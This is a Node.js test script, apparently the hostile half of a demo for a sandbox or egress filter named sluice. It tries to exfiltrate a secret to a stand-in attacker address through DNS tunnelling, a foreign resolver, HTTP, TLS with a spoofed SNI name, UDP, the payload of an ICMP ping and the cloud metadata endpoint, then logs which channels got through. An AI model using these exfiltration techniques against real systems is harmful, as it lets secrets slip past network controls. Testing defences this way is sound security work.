// SPDX-License-Identifier: GPL-3.0-or-later
// The hostile script of sluice's demo.  It knows only the demo's own small internet: 198.18.3.66 is the attacker there.
// Its first line of output a way is "way<TAB>what happened".
'use strict';
const fs = require('fs'), os = require('os'), path = require('path');
const dns = require('dns'), dgram = require('dgram'), http = require('http'), tls = require('tls'), { spawnSync } = require('child_process');
const secret = process.env.DEMO_SECRET || 'no-secret', attacker = '198.18.3.66';

const ways = {
    'DNS tunnel': (done) => dns.resolve4(`${Buffer.from('what=credentials;' + os.hostname()).toString('hex').slice(0, 60)}.${secret}.evil.test`, (e) => done(e ? e.code : 'sent')),
    'foreign resolver': (done) => {
        const resolver = new dns.Resolver({ timeout: 2000, tries: 1 });
        resolver.setServers([attacker]);
        resolver.resolve4(`${secret}.evil.test`, (e) => done(e ? e.code : 'sent'));
    },
    'direct address': (done) => http.get(`http://${attacker}/${secret}`, () => done('sent')).on('error', (e) => done(e.code)),
    'allowed name, his server': (done) => {
        const socket = tls.connect({ host: attacker, port: 443, servername: 'allowed.test', ALPNProtocols: [secret], rejectUnauthorized: false }, () => done('sent'));
        socket.on('error', (e) => done(e.code));
    },
    'UDP datagram': (done) => {
        const socket = dgram.createSocket('udp4');
        socket.on('error', (e) => done(e.code)).on('message', () => done('sent'));
        socket.connect(9999, attacker, () => socket.send(secret, (e) => e && done(e.code)));
    },
    'ICMP echo': (done) => {
        const pattern = Buffer.from(secret.slice(0, 16)).toString('hex');
        const copy = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'p')), 'ping'); // a copy needs no file capability
        fs.copyFileSync(['/usr/bin/ping', '/bin/ping'].find((p) => fs.existsSync(p)), copy);
        fs.chmodSync(copy, 0o755);
        const ping = spawnSync(copy, ['-c', '1', '-W', '2', '-p', pattern, attacker]);
        done(ping.status === 0 ? 'sent' : `ping exit ${ping.status}`);
    },
    'cloud metadata': (done) => http.get(`http://169.254.169.254/latest/${secret}`, () => done('sent')).on('error', (e) => done(e.code)),
};

(async () => {
    for (const [name, way] of Object.entries(ways)) {
        const start = Date.now();
        const what = await new Promise((resolve) => {
            way(resolve);
            setTimeout(() => resolve('time-out'), 4000);
        });
        console.log(`${name}\t${what}\t${Date.now() - start} ms`);
    }
    process.exit(0);
})();
